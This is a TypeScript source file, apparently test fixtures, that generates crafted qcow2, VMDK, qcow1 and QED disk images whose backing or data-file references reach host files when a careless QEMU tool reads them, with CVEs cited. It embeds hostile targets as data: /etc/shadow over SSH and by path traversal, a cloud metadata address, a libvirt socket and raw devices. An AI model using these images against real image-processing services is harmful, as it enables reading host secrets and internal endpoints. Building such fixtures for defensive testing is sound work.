// Disk images that reach for a file of the host, as an enemy makes them: through most a careless QEMU tool reads it.

import { extension, type Qcow2Fields, qcow2, raw } from "./disk-image.ts";

export interface MaliciousImage {
  readonly what: string;
  readonly bytes: Buffer;
  /** A qemu-img that is asked to convert it, and may guess what it is, copies the canary out. */
  readonly isReaching?: true;
}

const DATA_FILE = 0x44415441;
const BACKING_FORMAT = 0xe2792aca;
const DATA_FILE_BIT = 4n;
const CLUSTER_BYTES = 65_536;

const latin = (text: string): Buffer => Buffer.from(text, "latin1");

/** @param canaryPath At least 63 sectors long. */
export function reachingImages(canaryPath: string): readonly MaliciousImage[] {
  return [...backed(canaryPath), ...split(canaryPath), ...foreign(canaryPath)];
}

/** A name written behind the header, where the header says it is. */
function withBacking(what: string, name: string, fields: Qcow2Fields = {}): MaliciousImage {
  const bytes = qcow2({ backingOffset: 1024n, backingSize: Buffer.byteLength(name), ...fields });
  bytes.write(name, 1024, "latin1");
  return { what: `qcow2 ${what}`, bytes };
}

const reaching = (image: MaliciousImage): MaliciousImage => ({ ...image, isReaching: true });

function backed(canaryPath: string): readonly MaliciousImage[] {
  const declaredRaw = { extensions: extension(BACKING_FORMAT, latin("raw")) };
  const folderPath = canaryPath.slice(0, canaryPath.lastIndexOf("/"));
  return [
    reaching(withBacking("with a host file behind it (CVE-2015-1851)", canaryPath)),
    reaching(withBacking("of version 2 with a host file behind it (CVE-2011-3147)", canaryPath, { version: 2 })),
    reaching(withBacking("with a host file declared raw behind it", canaryPath, declaredRaw)),
    reaching(withBacking("with a json: pseudo file behind it", jsonOf(canaryPath))),
    reaching(withBacking("with a host file behind it, by its protocol", `file:${canaryPath}`)),
    reaching(withBacking("with a host file behind it, by a debugging protocol", `blkdebug::${canaryPath}`)),
    reaching(withBacking("with a host folder as a FAT disk behind it", `fat:${folderPath}`)),
    withBacking("with a host folder that may be written behind it", `fat:rw:${folderPath}`),
    withBacking("with a device behind it", "/dev/vda"),
    withBacking("with an inherited file descriptor behind it", "/dev/fd/3"),
    withBacking("with an nbd server behind it", "nbd://169.254.169.254:80/x"),
    withBacking("with a socket of the host behind it", "nbd+unix:///?socket=/run/libvirt/libvirt-sock"),
    withBacking("with a machine of the network behind it", "ssh://root@10.0.0.1/etc/shadow"),
    withBacking("with a web address behind it", "https://169.254.169.254/latest/meta-data"),
    withBacking("with a relative file behind it", "../../../../../../etc/shadow"),
    { what: "qcow2 with a backing offset and no length", bytes: qcow2({ backingOffset: 1024n }) },
    { what: "qcow2 with a backing length and no offset", bytes: qcow2({ backingSize: 20 }) },
    {
      what: "qcow2 with a backing name of 4 GiB",
      bytes: qcow2({ backingOffset: 1024n, backingSize: 0xffffffff }),
    },
    {
      what: "qcow2 with a backing name beyond the file",
      bytes: qcow2({ backingOffset: 1n << 62n, backingSize: 8 }),
    },
  ];
}

const jsonOf = (path: string): string => `json:{"driver":"raw","file":{"driver":"file","filename":"${path}"}}`;

function split(canaryPath: string): readonly MaliciousImage[] {
  const dataFile = extension(DATA_FILE, latin(canaryPath));
  const bit = { incompatible: DATA_FILE_BIT };
  return [
    reaching({
      what: "qcow2 with its data in a host file (CVE-2024-32498)",
      bytes: mappedToStart(qcow2({ ...bit, extensions: dataFile })),
    }),
    reaching({
      what: "qcow2 with its data in a host file, raw",
      bytes: mappedToStart(qcow2({ ...bit, autoclear: 2n, extensions: dataFile })),
    }),
    reaching({
      what: "qcow2 with the name of a data file behind another extension",
      bytes: mappedToStart(
        qcow2({ ...bit, extensions: Buffer.concat([extension(0x12345678, Buffer.alloc(24)), dataFile]) }),
      ),
    }),
    {
      // QEMU since 9.0.2, and Debian's since its update, refuse the protocol: before, `qemu-img info` was enough.
      what: "qcow2 with its data in a json: pseudo file (CVE-2024-4467)",
      bytes: mappedToStart(qcow2({ ...bit, extensions: extension(DATA_FILE, latin(jsonOf(canaryPath))) })),
    },
    { what: "qcow2 with the name of a data file and no bit for it", bytes: qcow2({ extensions: dataFile }) },
    { what: "qcow2 with the bit of a data file and no name", bytes: qcow2(bit) },
  ];
}

/** The guest's first cluster is the first of the data file: an L2 table behind the rest, and one entry in each table. */
function mappedToStart(image: Buffer): Buffer {
  const isUsed = 1n << 63n;
  const l2Table = Buffer.alloc(CLUSTER_BYTES);
  l2Table.writeBigUInt64BE(isUsed, 0);
  image.writeBigUInt64BE(isUsed | BigInt(image.length), CLUSTER_BYTES * 3);
  return Buffer.concat([image, l2Table]);
}

function foreign(canaryPath: string): readonly MaliciousImage[] {
  return [
    reaching({ what: "raw that is a VMDK descriptor of a host file (CVE-2022-47951)", bytes: vmdk(canaryPath) }),
    reaching({ what: "raw that is a VMDK in pieces of 2 GiB", bytes: vmdk(canaryPath, "twoGbMaxExtentFlat") }),
    { what: "raw that is a VMDK of a whole device", bytes: vmdk("/dev/vda", "fullDevice") },
    reaching({ what: "qcow of version 1 with a host file behind it", bytes: qcow1(canaryPath) }),
    reaching({ what: "QED with a host file behind it", bytes: qed(canaryPath) }),
  ];
}

/** A bootable raw disk to whoever looks at the boot sector's end alone (CVE-2024-40767). */
function vmdk(extentPath: string, createType = "monolithicFlat"): Buffer {
  const file = raw(2048);
  file.set(
    latin(
      `# Disk DescriptorFile\nversion=1\nCID=1\nparentCID=ffffffff\ncreateType="${createType}"\nRW 63 FLAT "${extentPath}" 0\n`,
    ),
  );
  file.set([0x55, 0xaa], 510);
  return file;
}

function qcow1(backingPath: string): Buffer {
  const file = Buffer.alloc(CLUSTER_BYTES);
  file.write("QFI\xfb", 0, "latin1");
  file.writeUInt32BE(1, 4);
  file.writeBigUInt64BE(1024n, 8);
  file.writeUInt32BE(backingPath.length, 16);
  file.writeBigUInt64BE(1n << 20n, 24); // size of the disk
  file.writeUInt8(12, 32); // clusters of 4 KiB
  file.writeUInt8(9, 33); // 512 entries in an L2 table
  file.writeBigUInt64BE(4096n, 40); // L1 table
  file.write(backingPath, 1024, "latin1");
  return file;
}

/** Little-endian, unlike the others. */
function qed(backingPath: string): Buffer {
  const tableClusters = 4;
  const file = Buffer.alloc(CLUSTER_BYTES * (1 + tableClusters));
  file.write("QED\0", 0, "latin1");
  file.writeUInt32LE(CLUSTER_BYTES, 4);
  file.writeUInt32LE(tableClusters, 8);
  file.writeUInt32LE(1, 12); // clusters of the header
  file.writeBigUInt64LE(5n, 16); // has a backing file, not to be guessed at
  file.writeBigUInt64LE(BigInt(CLUSTER_BYTES), 40); // L1 table
  file.writeBigUInt64LE(1n << 20n, 48); // size of the disk
  file.writeUInt32LE(64, 56);
  file.writeUInt32LE(backingPath.length, 60);
  file.write(backingPath, 64, "latin1");
  return file;
}
